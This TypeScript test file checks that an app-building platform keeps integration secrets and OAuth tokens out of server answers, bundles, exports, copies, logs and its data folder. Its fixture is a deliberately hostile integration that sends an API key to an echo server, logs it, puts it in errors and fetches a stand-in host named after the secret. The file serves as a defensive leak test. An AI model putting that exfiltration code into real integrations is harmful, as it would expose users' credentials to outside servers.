// The secrets of integrations: looked for in the logs, in each answer of the server, in bundles, exports, copies and the whole data folder.
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { type OauthServer, startOauthServer } from '@sayso/integrations/testing';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { fetchAt } from '../app-origin.ts';
import { type Builder, openBuilder } from '../bench/builder.ts';
import { offeredDigest } from '../integration-offer.ts';

const KEY = 'live/key+of=an installation?4711';
const SIGNING = 'whsec_c2lnbmluZyBzZWNyZXQgb2YgdGhlIHdlYmhvb2s=';
const CHANGED = 'the value that replaced the first one 0815';

/** Tries to give its secret away: to the log, in answers, in errors, in fields of the app, and to a server that repeats all that it gets. */
const hostile = (site: string, provider: string): string => `
const url = 'http://${site}';
const send = async (secrets, path = '/' + secrets.key + '?key=' + secrets.key) => fetch(url + path, {
  method: 'POST',
  headers: { authorization: 'Bearer ' + secrets.key, 'x-basic': 'Basic user:' + secrets.key },
  body: JSON.stringify({ key: secrets.key, reversed: [...secrets.key].reverse().join('') }),
});
const endpoint = (run) => ({
  sentence: 'Leaks.', input: { type: 'object' }, output: { type: 'object' }, example: { input: {}, output: {} }, run,
});
export default {
  name: 'leaky', title: 'Leaky', version: '1.0.0', sentence: 'Leaks its secrets.', hosts: ['${site}'],
  connections: { account: { title: 'Account', issuer: '${provider}', required: false } },
  secrets: { key: { title: 'Key', in: ['header', 'query', 'path', 'body'] }, signing: { title: 'Signing secret', in: [] } },
  endpoints: {
    echo: endpoint(async (input, { secrets }) => {
      const response = await send(secrets);
      const text = await response.text();
      console.log('handle', secrets.key, 'answer', text);
      return { text, headers: [...response.headers], url: response.url, status: response.status };
    }),
    fail: endpoint(async (input, { secrets }) => {
      throw new Error('The server says ' + (await (await send(secrets)).text()));
    }),
    redirect: endpoint(async (input, { secrets }) => {
      const response = await send(secrets, '/redirect?to=/' + secrets.key);
      return { url: response.url, text: await response.text() };
    }),
    token: endpoint(async (input, { connections }) => {
      const response = await send({ key: connections.account });
      const text = await response.text();
      console.log('handle', connections.account, 'answer', text);
      if (input.fail) throw new Error(text);
      return { text, headers: [...response.headers], url: response.url };
    }),
    refused: endpoint(async (input, { secrets }) => {
      await fetch('https://' + secrets.key + '.example.org/' + secrets.key);
      return {};
    }),
  },
  webhooks: { event: { sentence: 'An event.', scheme: 'standard', secret: 'signing', run: ({ body }) => ({ note: body }) } },
};`;

let dataDir: string;
let server: Server;
let provider: OauthServer;
let builder: Builder;
/** What the server of the service got: proof that the secrets were sent. */
const received: string[] = [];
/** Everything that the server answered, by what it was asked for. */
const answers: (readonly [string, Uint8Array])[] = [];
const realFetch = globalThis.fetch;

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'sayso-secrets-'));
  server = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks).toString();
    const authorization = request.headers.authorization ?? '';
    received.push(`${request.url} ${authorization} ${body}`);
    const key = authorization.replace('Bearer ', '');
    if (request.url?.startsWith('/redirect')) response.writeHead(302, { location: `/${encodeURIComponent(key)}` }).end();
    else {
      response.writeHead(200, { 'x-echo': encodeURIComponent(key), 'set-cookie': `key=${encodeURIComponent(key)}` });
      const spellings = [
        key,
        Buffer.from(key).toString('base64'),
        Buffer.from(`user:${key}`).toString('base64'),
        Buffer.from(key).toString('hex'),
      ];
      response.end(JSON.stringify({ url: request.url, headers: request.headers, body, spellings }));
    }
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const site = `localhost:${(server.address() as AddressInfo).port}`;
  provider = await startOauthServer();
  // Every call renews its token.
  provider.behaviour.expiresIn = 0;
  await mkdir(join(dataDir, 'integrations'));
  await writeFile(join(dataDir, 'integrations', 'leaky.js'), hostile(site, provider.site));
  globalThis.fetch = async (...call) => {
    const response = await realFetch(...call);
    answers.push([`${String(call[0])} ${JSON.stringify([...response.headers])}`, new Uint8Array(await response.clone().arrayBuffer())]);
    return response;
  };
  builder = await openBuilder({ DATA_DIR: dataDir, LOG_LEVEL: 'debug', INTEGRATION_PRIVATE_HOSTS: `${site},${provider.host}` });
  await use(builder);
}, 90_000);
afterAll(async () => {
  globalThis.fetch = realFetch;
  await builder?.product.stop();
  server?.close();
  await provider?.close();
  await rm(dataDir, { recursive: true, force: true, maxRetries: 5 });
});

const LIST = `query ($id: ID!) {
  integrationPackages(appId: $id) {
    installed { id name secretNames settings problem lastError webhookUrls upgradeAdds connections { state lastError clientId problem } package { name secrets settings endpoints webhooks } }
    catalogue { package { name secrets } } events { note error } missing
  }
  integrations(appId: $id) { calls { endpoint message } days { endpoint calls failures } }
  app(id: $id) { name }
}`;
const TEST = `mutation ($id: ID!, $instance: ID!, $endpoint: String!) {
  testIntegration(appId: $id, id: $instance, endpoint: $endpoint, input: {}) { isOk output logs }
}`;

async function use({ graphql, call, createApp, product, headers }: Builder): Promise<void> {
  const id = await createApp({
    'pages/Home': "import { echo } from '@/integrations/leaky';\nexport default () => <button onClick={() => echo({})}>Go</button>;",
  });
  const { installIntegration } = await graphql(
    `mutation ($id: ID!, $digest: String!, $secrets: JSON, $clients: JSON) { installIntegration(appId: $id, package: "leaky", digest: $digest, secrets: $secrets, clients: $clients) { installed { id secretNames } } }`,
    {
      id,
      digest: await offeredDigest(graphql, id, 'leaky'),
      secrets: { key: KEY, signing: SIGNING },
      clients: { account: provider.client },
    },
  );
  const [{ id: instance }] = installIntegration.installed;
  const { startPreview } = await graphql('mutation ($id: ID!) { startPreview(appId: $id) { token frameUrl } }', { id });
  const { publishApp } = await graphql('mutation ($id: ID!) { publishApp(id: $id) { url } }', { id });
  const invoke = async (endpoint: string) => {
    const answer = await fetch(`${product.runtimeUrl}/integrations/installable/leaky/main/integration-endpoints/${endpoint}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${startPreview.token}` },
      body: '{}',
    });
    return answer.status;
  };
  const consent = async () => {
    const { connectIntegration } = await graphql(
      'mutation ($id: ID!, $instance: ID!) { connectIntegration(appId: $id, id: $instance, connection: "account") }',
      { id, instance },
    );
    // A browser sends the code in an address; the server answers without it.
    const response = await realFetch(provider.consent(connectIntegration), { headers: { ...headers }, redirect: 'manual' });
    answers.push([JSON.stringify([...response.headers]), new Uint8Array(await response.arrayBuffer())]);
  };
  await consent();
  const everything = async () => {
    for (const endpoint of ['token', 'echo', 'fail', 'redirect', 'refused']) {
      await invoke(endpoint);
      await graphql(TEST, { id, instance, endpoint });
    }
    await graphql(LIST, { id });
  };
  await everything();
  // A forged delivery, and one call too many.
  await fetch(`${product.runtimeUrl}/integrations/installable/leaky/${instance}/webhooks/event`, {
    method: 'POST',
    headers: { 'webhook-id': 'a', 'webhook-timestamp': String(Math.floor(Date.now() / 1000)), 'webhook-signature': 'v1,AAAA' },
    body: '{}',
  });
  const configure = (secrets: object) =>
    graphql(
      'mutation ($id: ID!, $instance: ID!, $secrets: JSON) { configureIntegration(appId: $id, id: $instance, secrets: $secrets) { id } }',
      {
        id,
        instance,
        secrets,
      },
    );
  await configure({ key: CHANGED });
  await everything();
  await configure({ key: 'x'.repeat(5000), other: KEY }).catch(() => undefined);
  await configure({ key: KEY });
  // The provider has ended the access, and repeats the token in its refusal.
  provider.revokeAll();
  await everything();
  await consent();
  for (const path of ['', '/export.zip', '/integrations/schema', '/versions'])
    await fetch(`${product.builderUrl}/api/apps/${id}${path}`, { headers: { ...headers } });
  const { duplicateApp } = await graphql('mutation ($id: ID!) { duplicateApp(id: $id, withRows: true) { id } }', { id });
  const copy = await graphql(LIST, { id: duplicateApp.id });
  expect(copy.integrationPackages.installed).toEqual([]);
  await fetch(`${product.builderUrl}/api/apps/${duplicateApp.id}/export.zip`, { headers: { ...headers } });
  await call('/api/docs/json');
  await crawl(startPreview.frameUrl, (url) => fetch(url));
  await crawl(publishApp.url, async (url) => {
    const { origin, pathname, search } = new URL(url);
    const response = await fetchAt(origin, pathname + search);
    answers.push([url, new Uint8Array(await response.clone().arrayBuffer())]);
    return response;
  });
}

/** A page, and all scripts, styles and JSON that it and those name. */
async function crawl(start: string, load: (url: string) => Promise<Response>): Promise<void> {
  const seen = new Set([start]);
  for (const url of seen) {
    const response = await load(url);
    if (!response.ok || seen.size > 200) continue;
    for (const [, path = ''] of (await response.text()).matchAll(/["'(]([./][\w./@$~+-]+\.(?:js|css|json)(?:\?[\w=&.-]*)?)["')]/g))
      seen.add(new URL(path, url).href);
  }
}

/** With the tokens, codes and the client of the provider. */
const spellings = () =>
  [KEY, SIGNING, CHANGED, provider.client.secret, ...provider.granted].flatMap((value) => {
    const bytes = Buffer.from(value);
    return [
      value,
      JSON.stringify(value).slice(1, -1),
      encodeURIComponent(value),
      encodeURIComponent(value).replaceAll('%20', '+'),
      [...value].reverse().join(''),
      bytes.toString('hex'),
      bytes.toString('base64').replace(/=+$/, '').slice(0, -1),
      bytes.toString('base64url').slice(0, -1),
      Buffer.from(`user:${value}`).toString('base64').slice(8, -4),
    ];
  });
let known: readonly string[] | undefined;
const found = (bytes: Uint8Array | string): string[] => {
  const buffer = Buffer.from(bytes as Uint8Array);
  known ??= spellings();
  return known.filter((text) => buffer.includes(text));
};

/** The content of packed bytes. */
function unpacked(name: string, bytes: Uint8Array): readonly (readonly [string, Uint8Array])[] {
  if (bytes[0] === 0x50 && bytes[1] === 0x4b)
    return Object.entries(unzipSync(bytes)).map(([file, content]) => [`${name} ${file}`, content]);
  if (bytes[0] === 0x1f && bytes[1] === 0x8b) return [[name, gunzipSync(bytes)]];
  return name.endsWith('.br') ? [[name, brotliDecompressSync(bytes)]] : [[name, bytes]];
}

test('the service got the secrets, so that there was something to give away', () => {
  expect(received.filter((line) => line.includes(`Bearer ${KEY}`)).length).toBeGreaterThan(5);
  expect(received.some((line) => line.includes(`Bearer ${CHANGED}`))).toBe(true);
  expect(received.some((line) => line.includes(JSON.stringify(KEY)))).toBe(true);
  const tokens = provider.granted.filter((token) => token.startsWith('access-'));
  expect(tokens.filter((token) => received.some((line) => line.includes(`Bearer ${token}`))).length).toBeGreaterThan(2);
});

test('no answer, bundle, export or copy has one', () => {
  const all = answers.flatMap(([name, bytes]) => [[name, Buffer.from(name)] as const, ...unpacked(name, bytes)]);
  expect(all.length).toBeGreaterThan(60);
  for (const part of ['export.zip', 'integrations/schema', 'graphql', '.js', 'integration-endpoints'])
    expect(all.filter(([name]) => name.includes(part)).length, part).toBeGreaterThan(0);
  expect(all.some(([, bytes]) => Buffer.from(bytes).includes('[secret removed]'))).toBe(true);
  expect(all.flatMap(([name, bytes]) => found(bytes).map((text) => [name, text]))).toEqual([]);
});

test('no log line has one', () => {
  const output = builder.product.output();
  expect(output.split('\n').length).toBeGreaterThan(50);
  expect(found(output)).toEqual([]);
});

test('no file of the data folder has one: they are encrypted', async () => {
  await builder.product.stop();
  const entries = await readdir(dataDir, { recursive: true, withFileTypes: true });
  const paths = entries.filter((entry) => entry.isFile()).map(({ parentPath, name }) => join(parentPath, name));
  expect(paths.some((path) => path.endsWith('sayso.db'))).toBe(true);
  for (const path of paths)
    for (const [name, bytes] of unpacked(path, await readFile(path))) expect([name, found(bytes)]).toEqual([name, []]);
});
